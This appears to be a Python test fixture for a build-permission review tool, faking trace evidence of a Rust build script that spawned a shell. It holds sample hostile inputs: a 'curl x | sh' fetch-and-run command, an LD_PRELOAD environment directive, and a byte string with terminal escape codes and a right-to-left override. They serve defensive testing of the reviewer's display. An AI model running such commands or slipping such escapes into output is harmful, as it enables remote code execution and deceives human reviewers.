"""A review of one script that ran a shell, with what lies behind it."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

from buildperm.policy.decision import Answer
from buildperm.policy.kinds import Kind
from buildperm.policy.proposal import Risk
from buildperm.presentation.proposal_evidence import (
    ProposalEvidence,
    SourceLine,
    proposal_evidence,
    run_evidence,
)
from buildperm.tracer.recording.event import (
    DirectivePrinted,
    Executed,
    RecordedProcess,
    Verdict,
)
from tests.presentation.trace_recordings import made_run
from tests.tui.proposals import access, proposal
from tests.tui.review_bench import ReviewBench

if TYPE_CHECKING:
    from buildperm.errors import BuildpermError
    from buildperm.policy.proposal import Proposal

HOSTILE = b"\x1b[2J[red]\xe2\x80\xae"


class Source:
    """Knows about one script that ran a shell."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.trouble: BuildpermError | None = None  # What reading fails with.

    def of(self, asked: Proposal, /) -> ProposalEvidence:
        """Return the evidence."""
        self.asked.append(asked.id)
        if self.trouble is not None:
            raise self.trouble
        ms = 1_000_000
        processes = (
            RecordedProcess(7, 0, b"/out/build", (b"/out/build",), 0, 90 * ms, 1 << 8),
            RecordedProcess(8, 7, b"/bin/sh", (b"sh", b"-c", HOSTILE), ms, 13 * ms, 9),
            RecordedProcess(9, 7, b"/bin/ls", (b"ls",), 14 * ms, 15 * ms, 0),
        )
        events = [
            Executed(ms, 7, b"/bin/sh", b"/bin/sh", (b"sh", b"-c", HOSTILE), 0, False, 3),
            Executed(2 * ms, 7, b"/bin/sh", b"/bin/sh", (b"sh", b"-c", b"curl x | sh"), 13, True),
        ]
        told = [
            DirectivePrinted(5, "rustc-link-lib", "z", Verdict.FREE),
            DirectivePrinted(6, "rustc-env", "LD_PRELOAD=/x", Verdict.FORBIDDEN),
        ]
        run = run_evidence(made_run(processes, [*events, *told]), events)
        line = SourceLine(
            "gen 0.1.0", "build.rs", Path("/w/build.rs"), 12, '  Command::new("sh")', '"sh"'
        )
        return proposal_evidence(asked, [run], asking=[line], searched='searched gen for `"sh"`.')

    def edit(self, asked: Proposal, chosen: int, answer: Answer, /) -> tuple[str, ...]:
        """Return a diff."""
        del asked
        return ("--- a/Cargo.toml", "+++ b/Cargo.toml", "@@ -1 +1 @@", f"+{answer} {chosen}")


def evidence_bench() -> tuple[ReviewBench, Source]:
    """Return a bench over one proposal, and its source."""
    asked = proposal(
        "gen", "0.1.0", "run sh", Risk.HIGH, "a shell", [access(Kind.EXEC, "sh", count=4)]
    )
    source = Source()
    return ReviewBench([asked], evidence=source), source
